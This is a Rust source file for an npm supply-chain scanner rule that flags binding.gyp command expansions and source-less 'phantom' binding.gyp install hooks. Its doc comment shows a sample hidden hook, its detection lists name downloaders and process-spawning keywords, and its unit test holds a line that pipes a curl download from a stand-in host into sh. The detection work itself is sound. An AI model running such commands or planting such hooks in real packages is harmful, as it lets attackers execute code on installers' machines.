//! # SW-NPM-002: binding.gyp command expansions
//!
//! **What it does.** Reads a package's `binding.gyp`, which npm builds
//! with `node-gyp rebuild` at install even without an install script.
//! GYP command expansions (`<!(…)`, `<!@(…)`) run a shell command while
//! the build files are generated; the rule reports those that run
//! `node`, a shell, Python or a downloader on something other than the
//! well-known build helpers, and a `binding.gyp` that compiles no C or
//! C++ source at all.
//!
//! **Why is this bad.** A `binding.gyp` with no sources builds nothing:
//! its only effect is that npm runs `node-gyp` — and with it, the
//! command expansions — at install, a hidden install hook that tools
//! looking only at `scripts` miss ("phantom" `binding.gyp`).
//!
//! **Example.**
//!
//! ```python
//! {"targets": [{"target_name": "x",
//!   "sources": ["<!(node index.js > /dev/null && echo stub.c)"]}]}
//! ```
//!
//! **False positives.** Real addons use expansions to find headers
//! (`node -p "require('node-addon-api').include"`, `nan`,
//! `pkg-config`): those give nothing. A real addon whose expansion runs
//! one of its own scripts is `medium`; an expansion that downloads or
//! runs inline code reaching the network or spawning, and a
//! `binding.gyp` without sources that runs a command, are `high`; one
//! without sources that runs nothing is `low`.

use std::sync::LazyLock;

use super::{Context, Emit, Rule, clip};
use crate::model::{Severity, Stage};
use crate::surface::gyp_expansions;

pub(crate) static RULE: Rule = Rule {
    id: "SW-NPM-002",
    title: "binding.gyp command expansions",
    source: include_str!("npm002_binding_gyp.rs"),
    check,
};

/// Expansions that only locate headers or libraries.
const HELPERS: &[&str] = &[
    "node-addon-api",
    "nan",
    "node-api-headers",
    "napi-macros",
    "node-gyp-build",
    "process.arch",
    "process.platform",
    "process.version",
    "process.config",
    "process.execpath",
];

/// Programs an expansion may run without saying anything.
const QUIET_PROGRAMS: &[&str] = &[
    "pkg-config",
    "echo",
    "uname",
    "xcrun",
    "xcode-select",
    "sw_vers",
    "brew",
    "llvm-config",
    "getconf",
    "nproc",
    "test",
];

static SOURCES: LazyLock<regex::Regex> = LazyLock::new(|| {
    regex::Regex::new(r#"['"]sources['"](?-u:\s)*:(?-u:\s)*\[([^\]]*)\]"#).expect("a valid regex")
});

static ITEM: LazyLock<regex::Regex> =
    LazyLock::new(|| regex::Regex::new(r#"'([^']*)'|"([^"]*)""#).expect("a valid regex"));

/// What an expansion runs, if it is worth reporting: severity and why.
fn judge(command: &str) -> Option<(Severity, String)> {
    let lower = command.to_ascii_lowercase();
    let first = lower.split_whitespace().next().unwrap_or("");
    let program = first.rsplit(['/', '\\']).next().unwrap_or(first);
    if ["curl", "wget"].contains(&program) || lower.contains("curl ") || lower.contains("wget ") {
        return Some((Severity::High, format!("downloads while the build is configured: `{}`", clip(command, 80))));
    }
    match program {
        "node" | "nodejs" | "python" | "python3" | "sh" | "bash" | "zsh" | "cmd" | "powershell" | "pwsh" | "perl"
        | "bun" | "deno" => {
            let inline = lower.contains(" -e") || lower.contains(" -p") || lower.contains(" -c") || lower.contains("--eval") || lower.contains("--print");
            let helper = HELPERS.iter().any(|h| {
                lower.contains(&format!("'{h}'"))
                    || lower.contains(&format!("\"{h}\""))
                    || lower.contains(&format!("\\\"{h}\\\""))
                    || (lower.contains(h) && h.starts_with("process."))
            });
            if inline && helper {
                return None;
            }
            if inline {
                let risky = ["http", "child_process", "exec", "spawn", "eval", "socket", "urllib", "subprocess", "fetch"]
                    .iter()
                    .any(|k| lower.contains(k));
                if !risky && !lower.contains("require(") && !lower.contains("import ") {
                    return None;
                }
                let severity = if risky { Severity::High } else { Severity::Low };
                return Some((severity, format!("runs inline code while the build is configured: `{}`", clip(command, 80))));
            }
            Some((Severity::Medium, format!("runs `{}` while the build is configured", clip(command, 80))))
        }
        p if QUIET_PROGRAMS.contains(&p) => None,
        _ => Some((Severity::Low, format!("runs `{}` while the build is configured", clip(command, 80)))),
    }
}

fn check(cx: &Context<'_>, out: &mut Emit<'_>) {
    let Some(gyp) = cx.files.iter().find(|f| f.path == "binding.gyp") else { return };
    let Some(text) = gyp.text.as_deref() else { return };
    if cx.plan.manifest.as_ref().is_some_and(|m| m["gypfile"].as_bool() == Some(false)) {
        return;
    }
    // Real sources: listed items that are not command expansions and name
    // a compiled language.
    let mut sources = 0usize;
    for caps in SOURCES.captures_iter(text) {
        for item in ITEM.captures_iter(&caps[1]) {
            let value = item.get(1).or_else(|| item.get(2)).map_or("", |m| m.as_str());
            let lower = value.to_ascii_lowercase();
            if value.starts_with("<(") || value.starts_with("<@(") {
                sources += 1; // a variable holding the list
            } else if !value.starts_with("<!")
                && [".c", ".cc", ".cpp", ".cxx", ".c++", ".m", ".mm", ".s", ".asm", ".rs", ".gyp", ".h", ".hpp"]
                    .iter()
                    .any(|ext| lower.ends_with(ext))
            {
                sources += 1;
            }
        }
    }
    // Sources may come from included files or dependent .gyp targets.
    if text.contains("'includes'") || text.contains("\"includes\"") || text.contains(".gyp:") {
        sources += 1;
    }
    let has_actions = text.contains("'actions'") || text.contains("\"actions\"");
    let expansions = gyp_expansions(text);
    let mut worst: Option<(Severity, u32, String)> = None;
    for (line, command) in &expansions {
        if let Some((severity, why)) = judge(command)
            && worst.as_ref().is_none_or(|(s, _, _)| severity > *s)
        {
            worst = Some((severity, *line, why));
        }
    }
    if sources == 0 && (worst.is_some() || has_actions) {
        let (line, what) = match &worst {
            Some((_, line, why)) => (Some(*line), why.clone()),
            None => (None, "runs build actions".to_owned()),
        };
        out.finding(
            Severity::High,
            Stage::Install,
            &gyp.path,
            line,
            format!("a binding.gyp with no C/C++ sources, whose only effect is that npm runs node-gyp at install; it {what}"),
        );
        return;
    }
    if sources == 0 && expansions.is_empty() {
        out.finding(Severity::Low, Stage::Install, &gyp.path, None, "a binding.gyp with no C/C++ sources makes npm run node-gyp at install");
        return;
    }
    if let Some((severity, line, why)) = worst {
        out.finding(severity, Stage::Install, &gyp.path, Some(line), format!("a binding.gyp command expansion {why}"));
    }
}

#[cfg(test)]
mod tests {
    use super::judge;

    #[test]
    fn expansions() {
        assert!(judge("node -p \"require('node-addon-api').include\"").is_none());
        assert!(judge("node -p \"require('node-addon-api').include_dir\"").is_none());
        assert!(judge("node -e \"require('nan')\"").is_none());
        assert!(judge("pkg-config --cflags glib-2.0").is_none());
        assert!(judge("node -p process.arch").is_none());
        assert!(judge("node index.js > /dev/null && echo stub.c").is_some());
        assert_eq!(judge("curl -s https://x.example.test/a | sh").unwrap().0, super::Severity::High);
    }
}
